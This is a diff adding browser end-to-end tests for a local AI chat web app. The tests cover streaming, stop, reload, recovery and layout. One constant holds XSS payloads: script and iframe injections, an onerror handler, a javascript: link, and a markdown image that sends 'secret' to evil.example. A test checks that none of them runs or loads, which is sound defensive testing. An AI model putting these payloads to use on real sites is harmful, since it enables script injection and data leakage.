@@ -1,0 +1,133 @@
+"""What does a person see in a real browser?"""
+
+from __future__ import annotations
+
+import re
+import shutil
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+from playwright.async_api import Locator, Page, Request, async_playwright, expect
+
+from tests.support.scripted_ollama import Call, Hang, Say, ScriptedOllama, Think, Wait
+from tests.support.stack import Stack
+
+pytestmark = [pytest.mark.stack, pytest.mark.browser]
+QUIET = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
+HOSTILE = (
+    "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> "
+    "[a](javascript:document.title='owned') ![p](https://evil.example/p.png?q=secret) "
+    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>"
+)
+
+
+@pytest.fixture
+async def page(stack: Stack) -> AsyncIterator[Page]:
+    """A page of the running app; it fails the test on any error in the console and on any request that leaves."""
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=shutil.which("chromium"), args=QUIET)
+        page = await (await browser.new_context()).new_page()
+        complaints: list[str] = []
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
+
+        def left(request: Request) -> None:
+            if not request.url.startswith((stack.url, stack.url.replace("http", "ws"), "data:", "blob:")):
+                complaints.append(request.url)
+
+        page.on("request", left)
+        await page.goto(stack.url)
+        yield page
+        await browser.close()
+    lost = [c for c in complaints if "ERR_CONNECTION_REFUSED" not in c and "WebSocket connection" not in c]
+    assert lost == []
+
+
+def talk(page: Page) -> Locator:
+    """The conversation as it is seen: screen readers get the finished answer once more elsewhere."""
+    return page.get_by_role("region", name="Conversation")
+
+
+async def ask(page: Page, text: str) -> None:
+    """Type a question and send it."""
+    await page.get_by_label("Your question").fill(text)
+    await page.keyboard.press("Enter")
+
+
+async def test_answer_streams_with_thinking_and_tool(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    model.reply(Think("let me see"), Call("get_datetime", {"timezone": "Europe/Paris"}))
+    model.reply(Say("It is soon "), Wait("go"), Say("**noon**."))
+    await ask(page, "What time is it in Paris?")
+    await expect(talk(page).get_by_text("It is soon")).to_be_visible()
+    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    model.release("go")
+    await expect(talk(page).locator("strong", has_text="noon")).to_be_visible()
+    await expect(talk(page).get_by_text(re.compile("get_datetime"))).to_be_visible()
+    await expect(page.get_by_role("link", name="What time is it in Paris?")).to_be_visible()
+    await page.reload()
+    await expect(talk(page).locator("strong", has_text="noon")).to_be_visible()
+
+
+async def test_stop(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    model.reply(Say("one two "), Hang())
+    await ask(page, "count")
+    await expect(talk(page).get_by_text("one two")).to_be_visible()
+    await page.get_by_role("button", name="Stop").click()
+    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    await expect(talk(page).get_by_text("one two")).to_be_visible()
+    await ask(page, "and now?")
+    await expect(talk(page).get_by_text("You said: and now?")).to_be_visible()
+
+
+async def test_reload_in_mid_answer(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    model.reply(Say("Hello "), Wait("go"), Say("world."))
+    await ask(page, "hi")
+    await expect(talk(page).get_by_text("Hello")).to_be_visible()
+    await page.reload()
+    await expect(talk(page).get_by_text("Hello")).to_be_visible()
+    model.release("go")
+    await expect(talk(page).get_by_text("Hello world.")).to_be_visible()
+
+
+async def test_gateway_killed_in_mid_answer(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    model.reply(Say("Hello "), Wait("go"), Say("world."))
+    await ask(page, "hi")
+    await expect(talk(page).get_by_text("Hello")).to_be_visible()
+    pid = await stack.kill("gateway")
+    await stack.replaced("gateway", pid)
+    model.release("go")
+    await expect(talk(page).get_by_text("Hello world.")).to_be_visible(timeout=15_000)
+
+
+async def test_failed_turn_has_words_and_a_retry_that_works(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    await model.stop()
+    await ask(page, "hi")
+    retry = page.get_by_role("button", name="Retry")
+    await expect(retry).to_be_visible(timeout=20_000)
+    await model.__aenter__()
+    await retry.click()
+    await expect(talk(page).get_by_text("You said: hi")).to_be_visible()
+
+
+async def test_nothing_in_an_answer_runs_or_loads(page: Page, stack: Stack, model: ScriptedOllama) -> None:
+    model.reply(Think(HOSTILE), Say(HOSTILE))
+    await ask(page, HOSTILE)
+    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    await expect(talk(page).get_by_text(re.compile("iframe|evil")).first).to_be_visible()
+    assert "owned" not in await page.title()
+    assert await page.locator("iframe, script:not([src]), img[src*='evil']").count() == 0
+
+
+@pytest.mark.parametrize("size", [{"width": 360, "height": 740}, {"width": 1280, "height": 800}], ids=["phone", "desktop"])
+@pytest.mark.parametrize("theme", ["light", "dark"])
+async def test_pages_fit(page: Page, stack: Stack, model: ScriptedOllama, size: Any, theme: Any) -> None:
+    await page.set_viewport_size(size)
+    await page.emulate_media(color_scheme=theme)
+    await ask(page, "hi " * 30)
+    await expect(talk(page).get_by_text("You said").first).to_be_visible()
+    for path in ("", "/status", "/settings"):
+        await page.goto(f"{stack.url}{path}")
+        await expect(page.locator("main")).to_be_visible()
+        wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert wide <= 0
